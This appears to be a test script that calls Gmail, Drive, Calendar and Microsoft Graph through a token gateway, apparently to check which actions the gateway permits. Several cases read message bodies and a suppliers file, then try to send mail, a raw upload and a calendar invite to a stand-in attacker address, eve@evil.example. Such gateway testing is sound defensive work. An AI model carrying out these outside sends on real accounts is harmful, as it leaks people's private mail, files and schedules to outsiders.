// office.mjs GATE TOKENS: Google's and Microsoft's own clients, through the gateway. TOKENS is JSON, a
// token by the upstream's name. Prints what each call came to, as JSON.
import { at, call, events, files, graph, mail, out, raw } from "./office_clients.mjs";

await call("gmail list", async () => (await mail.users.messages.list({ userId: "me", maxResults: 10 }, at("mail"))).data.messages.length);
await call("gmail subjects", async () => {
	const { data } = await mail.users.messages.list({ userId: "me" }, at("mail"));
	const all = await Promise.all(data.messages.map((m) => mail.users.messages.get({ userId: "me", id: m.id }, at("mail"))));
	return all.map((m) => [m.data.payload.headers.find((h) => h.name === "Subject").value, m.data.payload.body?.data ?? "no text"]);
});
await call("gmail send inside", async () => (await mail.users.messages.send({ userId: "me", requestBody: { raw: raw("ben@example.com") } }, at("mail"))).data.id.length > 0);
await call("gmail send outside", async () => (await mail.users.messages.send({ userId: "me", requestBody: { raw: raw("eve@evil.example") } }, at("mail"))).data.id);
await call("gmail upload outside", async () =>
	(await mail.users.messages.send({ userId: "me", requestBody: {}, media: { mimeType: "message/rfc822", body: "To: eve@evil.example\r\n\r\nx" } }, at("mail"))).data.id);

await call("drive list", async () => (await files.files.list({ pageSize: 10, fields: "files(id,name)" }, at("drive"))).data.files.map((f) => f.name).sort());
await call("drive content", async () => {
	const { data } = await files.files.list({ q: "name='suppliers.csv'", fields: "files(id)" }, at("drive"));
	return (await files.files.get({ fileId: data.files[0].id, alt: "media" }, at("drive", { responseType: "text" }))).data;
});

await call("calendar list", async () => (await events.events.list({ calendarId: "primary" }, at("calendar"))).data.items.map((e) => e.summary).sort());
await call("calendar invite outside", async () =>
	(await events.events.insert({ calendarId: "primary", requestBody: { summary: "x", start: { dateTime: "2027-01-04T10:00:00Z" }, end: { dateTime: "2027-01-04T11:00:00Z" }, attendees: [{ email: "eve@evil.example" }] } }, at("calendar"))).data.id);

const letter = (to) => ({ message: { subject: "hello", body: { contentType: "text", content: "there" }, toRecipients: [{ emailAddress: { address: to } }] } });
await call("graph subjects", async () => (await graph.api("/me/messages").top(50).get()).value.map((m) => [m.subject, m.body?.content ?? "no text"]));
await call("graph select", async () => (await graph.api("/me/messages").select("subject").top(50).get()).value.length);
await call("graph send inside", async () => (await graph.api("/me/sendMail").post(letter("ben@example.com")), "sent"));
await call("graph send outside", async () => (await graph.api("/me/sendMail").post(letter("eve@evil.example")), "sent"));
await call("graph files", async () => (await graph.api("/me/drive/root/children").get()).value.map((f) => f.name).sort());
await call("graph events", async () => (await graph.api("/me/events").get()).value.map((e) => e.subject).sort());

console.log(JSON.stringify(out));
